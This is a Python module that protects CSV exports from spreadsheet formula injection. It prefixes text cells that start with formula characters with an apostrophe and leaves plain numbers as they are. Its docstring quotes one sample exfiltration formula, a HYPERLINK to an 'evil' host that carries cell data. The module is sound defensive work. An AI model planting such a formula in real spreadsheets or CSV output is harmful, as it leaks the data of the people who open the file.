"""CSV cells that a spreadsheet cannot run: one function for every CSV policeperf writes.

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before looking) is run as a formula when the CSV is opened in Excel,
LibreOffice or Google Sheets: a measure title ``=HYPERLINK("http://evil/?"&A1,"click")`` in a
report's CSV would leak data or worse (OWASP "CSV injection"). Such text is written with a leading
apostrophe, which spreadsheets show as plain text. Text that is a plain number (``-12``,
``+3.5``) is left as it is: it is not a formula, and a marker or figure stays readable by
programs. Only text columns are touched; numbers, dates and booleans are written as they are.
"""

from __future__ import annotations

import re
from pathlib import Path

import polars as pl

__all__ = ["FORMULA_START", "safe_cell", "safe_frame", "write_csv"]

#: Characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_STARTS = r"^[=+\-@\t\r]"
_PLAIN_NUMBER = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"


def safe_cell(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs as a formula."""
    if text.startswith(FORMULA_START) and not re.match(_PLAIN_NUMBER, text):
        return "'" + text
    return text


def safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text cell made safe (:func:`safe_cell`), vectorised."""
    text = [name for name, dtype in frame.schema.items() if dtype == pl.Utf8()]
    if not text:
        return frame
    return frame.with_columns(
        pl.when(pl.col(c).str.contains(_STARTS) & ~pl.col(c).str.contains(_PLAIN_NUMBER))
        .then(pl.lit("'") + pl.col(c)).otherwise(pl.col(c)).alias(c)
        for c in text
    )


def write_csv(frame: pl.DataFrame, path: Path | None = None, *, date_format: str | None = None,
              null_value: str | None = None) -> str:
    """Write ``frame`` as CSV with safe cells to ``path`` (returning ""), or return the text."""
    safe = safe_frame(frame)
    if path is None:
        return safe.write_csv(date_format=date_format, null_value=null_value)
    safe.write_csv(path, date_format=date_format, null_value=null_value)
    return ""
